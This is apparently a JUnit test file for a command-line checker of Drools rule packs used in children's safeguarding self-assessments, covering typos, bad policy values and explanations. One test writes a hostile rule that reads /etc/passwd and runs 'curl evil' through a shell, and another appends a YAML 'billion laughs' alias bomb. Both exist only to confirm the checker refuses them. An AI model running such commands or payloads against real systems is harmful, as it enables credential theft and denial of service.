package org.s11evaluator.rules;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.PrintStream;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.stream.Stream;

import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.s11evaluator.command.RulesCommandLine;
import org.s11evaluator.support.Folders;
import org.s11evaluator.yaml.BillionLaughs;
import org.junit.jupiter.api.io.TempDir;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

/** {@code rules check} and {@code rules test} on rule files broken the way a non-programmer breaks them. */
class RulesCommandTests {

	@TempDir
	Path rules;

	private final ByteArrayOutputStream output = new ByteArrayOutputStream();

	@BeforeEach
	void copyOfTheShippedPacks() {
		Folders.copy(Path.of("rules"), this.rules);
	}

	@Test
	void theShippedPacksCheckAndPassTheirCases() {
		assertThat(run("rules", "check")).isZero();
		assertThat(output()).contains("OK   barking-and-dagenham", "OK   pan-london-2012", "OK   pan-sussex");
		assertThat(run("rules", "test", "pan-sussex")).isZero();
		assertThat(output()).contains("OK   pan-sussex: 43 of 43 cases pass");
	}

	@Test
	void namesEachMistakeWithItsFileLineAndRule() throws IOException {
		edit("pan-sussex/evidence.drl", "!hasEvidence()", "!hasEvidense()");
		edit("pan-sussex/actions.drl", "$a : AgencyAction(itemId == $r.itemId)", "$a : AgencyAction(item == $r.itemId)");
		edit("pan-sussex/completeness.drl", "\nend\n", "\n");
		edit("pan-london-2012/evidence.drl", "rating != \"n/a\"", "rating != \"n/a\", standardId == \"10\"");
		edit("barking-and-dagenham/review.drl", "rating == \"met\", !hasLastReviewed()", "rating == \"met\", itemId == \"9.9\", !hasLastReviewed()");

		assertThat(run("rules", "check")).isEqualTo(1);

		assertThat(output()).contains("pan-sussex/evidence.drl:13:", "'hasEvidense' is not a method a rule may call on ItemResponse",
				"(in rule \"SUS-EVD-01 Items of the standards that must be evidenced need evidence\")")
			.containsPattern("pan-sussex/actions.drl:\\d+.*item")
			.containsPattern("pan-sussex/completeness.drl:\\d+")
			.containsPattern("pan-london-2012/evidence.drl:\\d+:\\d+: standard \"10\" is not in pan-london-2012/framework.yaml")
			.containsPattern("barking-and-dagenham/review.drl:\\d+:\\d+: item \"9.9\" is not in barking-and-dagenham/framework.yaml, so this "
					+ "condition can never match \\(in rule \"BD-REV-01 ");
	}

	@Test
	void refusesRuleFilesThatTryToEscape() throws IOException {
		Files.writeString(this.rules.resolve("pan-sussex/escape.drl"), """
				package rules.pansussex;
				import org.s11evaluator.rules.facts.*;
				import java.nio.file.Files;

				rule "X-01 read a file"
				when
				    $s : Submission()
				then
				    java.nio.file.Files.readString(java.nio.file.Path.of("/etc/passwd"));
				    new ProcessBuilder("sh", "-c", "curl evil").start();
				    $s.getClass().getDeclaredMethods()[0].setAccessible(true);
				    new Thread(() -> {}).start();
				end
				""");

		assertThat(run("rules", "check", "pan-sussex")).isEqualTo(1);

		assertThat(output()).contains("pan-sussex/escape.drl:3:1: import of 'java.nio.file.Files' is not allowed",
				"pan-sussex/escape.drl:9:5: 'java.nio.file.Files.readString(", "pan-sussex/escape.drl:10:5: 'new ProcessBuilder(",
				"pan-sussex/escape.drl:11:5: '$s.getClass()", "pan-sussex/escape.drl:12:5: 'new Thread(")
			.contains("is not allowed in a consequence: a consequence may only insert(...) outcomes");
	}

	@Test
	void aBadValueInTheFrameworkIsNamedWithItsLine() throws IOException {
		edit("pan-sussex/framework.yaml", "    title: Senior management commitment and leadership", "    titel: Senior management commitment and leadership");

		assertThat(run("rules", "check", "pan-sussex")).isEqualTo(1);
		assertThat(output()).containsPattern("pan-sussex/framework.yaml:\\d+:\\d+: unknown field 'titel'");
	}

	@Test
	void aBadValueInThePolicyValuesTableIsNamedWithItsLine() throws IOException {
		edit("pan-sussex/policy-values.yaml", "partnership.red.more-than: 1/3", "partnership.red.more-than: a third");
		edit("barking-and-dagenham/policy-values.yaml", "review.current.years: 2", "review.current.years: two");
		edit("pan-london-2012/follow-up.drl", "$v.months(\"follow-up.months.amber\")", "$v.months(\"follow-up.months.ambr\")");

		assertThat(run("rules", "check")).isEqualTo(1);

		assertThat(output()).containsPattern("pan-sussex/policy-values.yaml:\\d+: 'partnership.red.more-than' is \"a third\": it must be a share "
				+ "between 0 and 1, written as a fraction such as 1/3 or a percentage such as 20% \\(read by pan-sussex/partnership-rating.drl:\\d+\\)")
			.containsPattern("barking-and-dagenham/policy-values.yaml:4: 'review.current.years' is \"two\": it must be a whole number")
			.containsPattern("pan-london-2012/follow-up.drl:\\d+: the rule reads policy value 'follow-up.months.ambr', which no policy-values.yaml sets "
					+ "\\(in rule \"PL-FUA-02 ");
	}

	@Test
	void explainsWhereEachRuleAndValueInForceComesFrom() {
		assertThat(run("rules", "explain", "barking-and-dagenham")).isZero();

		assertThat(output()).contains("Rule pack barking-and-dagenham: Barking and Dagenham Safeguarding Children Partnership",
				"  common/standard-rating.drl  (baseline)\n    CMN-STD-01 A standard with a red item is red",
				"Baseline rules switched off by this pack (framework.yaml baseline.disable): \n  CMN-STD-04 A standard whose items are all N/A is N/A",
				"    BD-PRT-01 Red when any agency rates it not met\n        Red when any agency rates it not met")
			.containsPattern("review.current.years\\s+2\\s+set in barking-and-dagenham/policy-values.yaml:4\\n")
			.containsPattern("follow-up.months.red\\s+1\\s+set in common/policy-values.yaml:\\d+ \\(baseline\\)");
	}

	@Test
	void aPackReplacesABaselineRuleByDefiningItsIdAndChangesAValueWithoutCopyingTheRule() throws IOException {
		Files.writeString(this.rules.resolve("pan-london-2012/standard-rating.drl"), """
				package rules.panlondon2012;
				import org.s11evaluator.rules.facts.*;
				rule "CMN-STD-01 A standard with a line not in place is red, said in Pan-London's words"
				when
				    $s : Standard()
				    exists ItemRating(standardId == $s.id, rag == Rag.RED)
				then
				    insert(new StandardRating($s.id(), Rag.RED, "A line of this standard is not in place."));
				end
				""");
		Files.writeString(this.rules.resolve("pan-london-2012/policy-values.yaml"), "follow-up.months.red: 2\n");

		assertThat(run("rules", "explain", "pan-london-2012")).isZero();
		assertThat(output()).contains("Baseline rules replaced by a rule of this pack with the same id: \n  CMN-STD-01 A standard with a red item is red",
				"    CMN-STD-01 A standard with a line not in place is red, said in Pan-London's words")
			.containsPattern("follow-up.months.red\\s+2\\s+set in pan-london-2012/policy-values.yaml:1\\n");

		RulesSettings settings = new RulesSettings(this.rules, 10_000);
		RulePack pack = new RulePacks(settings).load("pan-london-2012");
		EvaluationOutcome outcome = new RuleEngine(settings).evaluate(new RulePackCompiler().compile(pack), new SubmissionFacts(
				new org.s11evaluator.rules.facts.Submission("pan-london-2012", "c", "a", "A", "P", null, java.time.LocalDate.of(2025, 1, 31)),
				java.util.List.of(new org.s11evaluator.rules.facts.ItemResponse("2.3", "2", "not-met", null, "e", java.util.List.of(), null, null)),
				java.util.List.of()));
		assertThat(outcome.standardRatings()).filteredOn((d) -> d.outcome().standardId().equals("2")).singleElement()
			.satisfies((d) -> assertThat(d.outcome().reason()).isEqualTo("A line of this standard is not in place."));
		assertThat(outcome.followUpActions()).singleElement()
			.satisfies((d) -> assertThat(d.outcome().due()).isEqualTo(java.time.LocalDate.of(2025, 3, 31)));
	}

	@Test
	void showsExpectedAgainstActualForAFailingCaseAndWritesJUnitXml() throws IOException {
		Files.writeString(this.rules.resolve("pan-sussex/policy-values.yaml"), "follow-up.months.red: 2\n", java.nio.file.StandardOpenOption.APPEND);
		Path reports = this.rules.resolve("reports");

		assertThat(run("rules", "test", "pan-sussex", "--junit-xml=" + reports)).isEqualTo(1);

		assertThat(output()).contains("FAIL pan-sussex/follow-up: red without an area for development is followed up within one month",
				"expected follow-up action (item 6.2, due 2025-04-14", "but got 6.2 due 2025-05-14");
		assertThat(Files.readString(reports.resolve("TEST-rules-pan-sussex.xml"))).contains("<testsuite name=\"rules.pan-sussex\"", "failures=\"1\"",
				"<failure message=\"expected follow-up action (item 6.2, due 2025-04-14");
	}

	@Test
	void reportsRulesThatNoCaseFires() throws IOException {
		Files.writeString(this.rules.resolve("pan-sussex/extra.drl"), """
				package rules.pansussex;
				import org.s11evaluator.rules.facts.*;
				rule "SUS-XTR-01 An untested rule"
				when
				    $r : ItemResponse(itemId == "1.1", rating == "red")
				then
				    insert(new Finding("X", $r.itemId(), $r.standardId(), "x"));
				end
				""");

		assertThat(run("rules", "test", "pan-sussex")).isEqualTo(1);
		assertThat(output()).contains("rules no case fires", "- SUS-XTR-01 An untested rule");
	}

	@Test
	void aBillionLaughsInAFrameworkPolicyValuesOrCasesFileIsRefusedQuicklyAtItsLine() throws IOException {
		append("pan-sussex/framework.yaml");
		append("barking-and-dagenham/policy-values.yaml");
		append("pan-london-2012/actions.cases.yaml");

		int exit = assertTimeoutPreemptively(Duration.ofSeconds(30), () -> run("rules", "check"));

		assertThat(exit).isEqualTo(1);
		assertThat(output()).containsPattern("pan-sussex/framework.yaml:\\d+:\\d+: .*YAML aliases are not allowed in this file \\(\\*a\\)")
			.containsPattern("barking-and-dagenham/policy-values.yaml:\\d+: .*YAML aliases are not allowed in this file \\(\\*a\\)")
			.containsPattern("pan-london-2012/actions.cases.yaml:\\d+:\\d+: .*YAML aliases are not allowed in this file \\(\\*a\\)");
	}

	/** Adds a "billion laughs" (keys a to j, each a list of nine aliases of the one before) to the end of a file. */
	private void append(String file) throws IOException {
		Path path = this.rules.resolve(file);
		Files.writeString(path, Files.readString(path) + "\n" + BillionLaughs.document());
	}

	private int run(String... args) {
		String[] withDirectory = Stream.concat(Stream.of(args), Stream.of("--rules=" + this.rules)).toArray(String[]::new);
		return RulesCommandLine.run(withDirectory, new PrintStream(this.output, true, StandardCharsets.UTF_8));
	}

	private String output() {
		return this.output.toString(StandardCharsets.UTF_8);
	}

	private void edit(String file, String from, String to) throws IOException {
		Path path = this.rules.resolve(file);
		String text = Files.readString(path);
		assertThat(text).as(file).contains(from);
		Files.writeString(path, text.replace(from, to));
	}

}
